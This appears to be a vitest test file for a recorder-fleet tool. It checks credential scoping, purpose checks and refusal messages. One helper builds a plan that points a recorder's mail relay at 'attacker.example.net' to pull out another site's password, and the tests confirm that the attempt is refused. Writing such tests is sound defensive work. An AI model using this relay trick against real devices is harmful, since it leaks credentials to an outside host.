import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { createClient } from "#shared/contract/client.ts";
import type { Checked, MethodName } from "#shared/contract/methods.ts";
import { ROLES, type Caller, type Role } from "#shared/domain/team.ts";
import type { Plan } from "#shared/domain/plan.ts";
import { isSecretRef } from "#shared/areas/parts.ts";
import { digestOf } from "#core/features/plans/digest.ts";
import { openDatabase } from "#core/platform/storage/index.ts";
import { localTransport } from "#test/support/core.ts";
import {
  credentialInputs,
  inputNaming,
  contradictions,
  type CredentialInput,
} from "#test/support/credential-inputs.ts";
import {
  dividedFleet,
  HIDDEN,
  scopeNamed,
  type DividedFleet,
  type ScopeName,
} from "#test/support/divided-fleet.ts";
import { atRest } from "#test/support/rollouts.ts";

const PASSWORDS = {
  "hull-admin": "hull-sign-in-4711",
  "leeds-admin": "leeds-sign-in-4711",
  "hull-mail": "hull-mail-4711",
  "leeds-mail": "leeds-mail-4711",
  "hull-push": "hull-push-4711",
} as const;

let divided: DividedFleet;
beforeAll(async () => {
  divided = await dividedFleet();
  const { muster, shown } = divided;
  for (const [name, password] of Object.entries(PASSWORDS)) {
    const purpose = name.endsWith("mail") ? "mail" : name.endsWith("push") ? "push" : "recorder";
    await muster.call("credentials.set", { name, username: "u", password, purpose });
  }
  await muster.call("sites.set", { name: HIDDEN, credential: "hull-admin" });
  await muster.call("sites.set", { name: shown.site, credential: "leeds-admin" });
  await muster.call("credentials.update", {
    name: "hull-mail",
    assignedTo: { sites: [HIDDEN], customers: [] },
  });
});
afterAll(() => divided.stop());

const { signal } = new AbortController();

function callerOf(role: Role, scope: ScopeName): Caller {
  const user = { id: `${role} of ${scope}`, name: role };
  return { user, role, scope: scopeNamed(scope, divided) };
}

function limited(role: Role, scope: ScopeName = "a site") {
  return createClient(localTransport(divided.muster.core.as(callerOf(role, scope))));
}

async function answerOf(role: Role, scope: ScopeName, input: CredentialInput, name: string) {
  const { handlers } = divided.muster.core.as(callerOf(role, scope));
  const given = inputNaming(input, divided.shown, name) as Checked<MethodName>;
  return handlers[input.method](given as never, { signal });
}

/** The answer without the name that was asked for. */
const anonymous = (answer: unknown, name: string) =>
  JSON.stringify(answer).replaceAll(name, "NAME");

const inputName = ({ method, path }: CredentialInput) => `${method} ${path.join(".")}`;

const PLANNED = [
  "plans.create template.email.password.secret",
  "plans.create template.eventPush.password.secret",
  "rollouts.rollback secrets.email",
  "rollouts.rollback secrets.eventPush",
];
/** Inputs that a user of a part of the fleet may give: others are refused, whatever they name. */
const ASKED_BY: Readonly<Record<Role, readonly string[]>> = {
  viewer: [],
  operator: [...PLANNED, "credentials.uses name"],
  approver: [...PLANNED, "credentials.uses name", "settings.testEmail secret"],
  administrator: [
    ...PLANNED,
    "credentials.test name",
    "credentials.uses name",
    "settings.testEmail secret",
  ],
};

describe("inputs that name a credential", () => {
  test("are those whose class says so", () => {
    expect(contradictions()).toEqual([]);
    expect(credentialInputs().map(inputName)).toEqual(
      expect.arrayContaining([
        "credentials.test name",
        "discovery.add credential",
        "plans.create template.email.password.secret",
        "plans.create template.eventPush.password.secret",
        "recorders.set set.credential",
        "rollouts.rollback secrets.email",
        "settings.testEmail secret",
        "sites.set credential",
        "sites.setAll set.credential",
        "templates.save content.template.email.password.secret",
      ]),
    );
  });

  test.each(ROLES)(
    "tell a user of a part of the fleet nothing about credentials of others: %s",
    async (role) => {
      const missing: string[] = [];
      for (const scope of ["a site", "a tag", "nothing"] as const) {
        for (const input of credentialInputs()) {
          const nobodys = await answerOf(role, scope, input, "no-such-name");
          expect(nobodys.ok, inputName(input)).toBe(false);
          if (!nobodys.ok && nobodys.error.code === "credential_missing")
            missing.push(inputName(input));
          for (const name of ["hull-admin", "hull-mail", "hull-push"]) {
            const theirs = await answerOf(role, scope, input, name);
            expect(anonymous(theirs, name), `${inputName(input)} for ${name}`).toBe(
              anonymous(nobodys, "no-such-name"),
            );
          }
        }
      }
      expect([...new Set(missing)].toSorted()).toEqual(ASKED_BY[role].toSorted());
    },
  );

  test("refuse a credential for something else, also to an administrator of the whole fleet", async () => {
    for (const input of credentialInputs().filter(({ use }) => use !== "any")) {
      const isSignIn = input.use === "recorder";
      for (const name of isSignIn ? ["hull-mail", "hull-push"] : ["hull-admin", "leeds-admin"]) {
        const answer = await answerOf("administrator", "the whole fleet", input, name);
        expect(answer, inputName(input)).toMatchObject({ error: { code: "credential_purpose" } });
      }
    }
    const email = { password: { secret: "hull-push" } };
    const template = { name: "Push password in a mail", email };
    const refused = await divided.muster.refuses("credential_purpose", "plans.create", {
      template,
      select: {},
    });
    expect(refused.message).toContain("Event push");
    expect(refused.where).toBe("email.password");
  });
});

describe("a user of a part of the fleet", () => {
  const stolen = (secret: string) => ({
    name: "Own relay",
    email: { smtp_server: "attacker.example.net", smtp_port: 2525, password: { secret } },
  });

  test("does not get a sign-in password of another site by a plan with an own mail server", async () => {
    const paul = limited("approver");
    const plan = await paul.call("plans.create", { template: stolen("hull-admin"), select: {} });
    expect(plan).toMatchObject({ ok: false, error: { code: "credential_missing" } });
    const own = await paul.call("plans.create", { template: stolen("leeds-admin"), select: {} });
    expect(own).toMatchObject({ ok: false, error: { code: "credential_purpose" } });
    await divided.muster.refuses("credential_purpose", "plans.create", {
      template: stolen("hull-admin"),
      select: {},
    });
  });

  test("starts no plan of others with a mail password that is not assigned to the own part", async () => {
    const { muster, shown, fleet } = divided;
    const select = { ids: [shown.recorder] };
    const plan = await muster.call("plans.create", { template: stolen("leeds-mail"), select });
    const paul = limited("approver");
    const start = { planId: plan.id, allowClearSecrets: true };
    const refused = await paul.call("rollouts.start", start);
    expect(refused).toMatchObject({ ok: false, error: { code: "credential_missing" } });
    expect(fleet.recorders[0]?.state.email["smtp_server"]).not.toBe("attacker.example.net");
    const { rollouts } = await muster.call("rollouts.list", {});
    expect(rollouts.filter(({ planId }) => planId === plan.id)).toEqual([]);

    await muster.call("credentials.update", {
      name: "leeds-mail",
      assignedTo: { sites: [], customers: ["Leeds Ltd"] },
    });
    const mail = { id: shown.recorder, secret: "leeds-mail", allowClearSecrets: true };
    const tested = await paul.call("settings.testEmail", mail);
    expect(tested.ok ? "sent" : tested.error.code).not.toMatch(/^credential_/);
    const { items } = await atRest(muster, async () => {
      const started = await paul.call("rollouts.start", start);
      if (!started.ok) throw new Error(started.error.message);
      return started.value;
    });
    expect(items.map(({ outcome }) => outcome)).not.toContain("refused");
    expect(fleet.recorders[0]?.state.emailPassword).toBe(PASSWORDS["leeds-mail"]);
    await muster.call("credentials.update", {
      name: "leeds-mail",
      assignedTo: { sites: [], customers: [] },
    });
  });

  test("lists the credentials of the own part, with numbers of the own part", async () => {
    const { muster, shown } = divided;
    const [first = ""] = divided.hidden.recorders;
    await muster.call("recorders.set", { ids: [first], set: { credential: "leeds-admin" } });
    const list = async (scope: ScopeName) => {
      const listed = await limited("operator", scope).call("credentials.list", {});
      if (!listed.ok) throw new Error(listed.error.message);
      return listed.value.credentials.map(({ name, usedBy }) => [name, usedBy]);
    };
    expect(await list("a site")).toEqual([["leeds-admin", 2]]);
    expect(await list("a tag")).toEqual([["leeds-admin", 2]]);
    expect(await list("nothing")).toEqual([]);
    expect(await list("the whole fleet")).toContainEqual(["leeds-admin", 3]);
    const uses = await limited("operator").call("credentials.uses", { name: "LEEDS-ADMIN" });
    if (!uses.ok) throw new Error(uses.error.message);
    expect(uses.value.recorders.map(({ id }) => id).toSorted()).toEqual(shown.recorders.toSorted());
    await muster.call("recorders.set", { ids: [first], set: { credential: null } });
  });
});

test("a plan from a file is refused if it names a credential for something else", async () => {
  const { muster, hidden } = divided;
  const template = { name: "Mailbox", email: { password: { secret: "hull-mail" } } };
  const plan = await muster.call("plans.create", { template, select: { ids: [hidden.recorder] } });
  const changed: Plan = {
    ...plan,
    id: crypto.randomUUID(),
    items: plan.items.map((item) => ({
      ...item,
      fields: item.fields.map((field) =>
        isSecretRef(field.after) ? { ...field, after: { secret: "hull-admin" } } : field,
      ),
    })),
  };
  const file = { ...changed, digest: digestOf(changed) };
  expect(file.items[0]?.fields.some(({ after }) => isSecretRef(after))).toBe(true);
  await muster.refuses("credential_purpose", "plans.import", { plan: file });
});

describe("a credential without a purpose", () => {
  /** Stores a credential as a database of version 0.1.0 has it. */
  async function unclear(name: string): Promise<void> {
    const { muster } = divided;
    await muster.call("credentials.set", { name, username: "u", password: "either-4711" });
    const opened = await openDatabase(muster.dataDir);
    if (!opened.ok) throw new Error(opened.error.message);
    opened.value.sqlite
      .prepare("update credential set purpose = 'unclear' where name = ?")
      .run(name);
    await opened.value.close();
  }

  test("signs in where it is assigned already, and nowhere else", async () => {
    const { muster, shown } = divided;
    await muster.call("credentials.set", { name: "old", username: "u", password: "either-4711" });
    await muster.call("sites.set", { name: shown.site, credential: "old" });
    await unclear("old");
    await muster.call("credentials.test", { id: shown.recorder });
    await muster.call("credentials.test", { id: shown.recorder, name: "OLD" });
    await muster.call("sites.set", { name: shown.site, credential: "old", notes: "Gate" });
    for (const refused of [
      muster.refuses("credential_purpose", "sites.set", { name: HIDDEN, credential: "old" }),
      muster.refuses("credential_purpose", "recorders.set", {
        ids: [divided.hidden.recorder],
        set: { credential: "old" },
      }),
    ])
      expect((await refused).hint).toContain("muster credentials update 'old' --purpose recorder");
    await muster.call("sites.set", { name: shown.site, credential: "leeds-admin" });
  });

  test("is written into no setting until a person chooses, which needs no password", async () => {
    const { muster } = divided;
    await unclear("alarm-mailbox");
    const template = { name: "Mailbox", email: { password: { secret: "alarm-mailbox" } } };
    const plan = { template, select: { ids: [divided.shown.recorder] } };
    const refused = await muster.refuses("credential_purpose", "plans.create", plan);
    expect(refused.hint).toContain("muster credentials update 'alarm-mailbox' --purpose mail");
    await muster.call("credentials.update", { name: "alarm-mailbox", purpose: "mail" });
    expect((await muster.call("plans.create", plan)).items).toHaveLength(1);
  });

  test("does not become a mail password while recorders sign in with it", async () => {
    const { muster, shown } = divided;
    await muster.call("credentials.set", { name: "both", username: "u", password: "either-4711" });
    await muster.call("recorders.set", { ids: [shown.recorder], set: { credential: "both" } });
    await unclear("both");
    const wish = { name: "both", purpose: "mail" } as const;
    const refused = await muster.refuses("credential_purpose", "credentials.update", wish);
    expect(refused.message).toContain("1 recorder");
    await muster.refuses("credential_purpose", "credentials.set", {
      ...wish,
      username: "u",
      password: "another",
    });
    await muster.call("recorders.set", { ids: [shown.recorder], set: { credential: null } });
    await muster.call("credentials.update", wish);
  });
});

test("a purpose that was chosen changes with a new password only", async () => {
  const { muster } = divided;
  const about = { name: "spare", username: "u" };
  await muster.call("credentials.set", { ...about, password: "sign-in-4711" });
  const wish = { name: "spare", purpose: "mail" } as const;
  await muster.refuses("credential_purpose", "credentials.update", wish);
  const set = { ...about, password: "mail-4711", purpose: "mail" } as const;
  expect(await muster.call("credentials.set", set)).toMatchObject({ purpose: "mail" });
  // A new password alone leaves the purpose as it is.
  const again = await muster.call("credentials.set", { ...about, password: "mail-4712" });
  expect(again).toMatchObject({ purpose: "mail" });
});

test("a credential is assigned to sites and customers that exist", async () => {
  const { muster, shown } = divided;
  const assigned = await muster.call("credentials.update", {
    name: "leeds-mail",
    assignedTo: { sites: [shown.site], customers: ["leeds ltd"] },
  });
  expect(assigned.assignedTo).toMatchObject({
    sites: [{ name: "Leeds" }],
    customers: [{ name: "Leeds Ltd" }],
  });
  await muster.refuses("not_found", "credentials.update", {
    name: "leeds-mail",
    assignedTo: { sites: ["Nowhere"], customers: [] },
  });
  const { credentials } = await muster.call("credentials.list", {});
  expect(credentials.find(({ name }) => name === "leeds-mail")?.assignedTo.sites).toHaveLength(1);
});
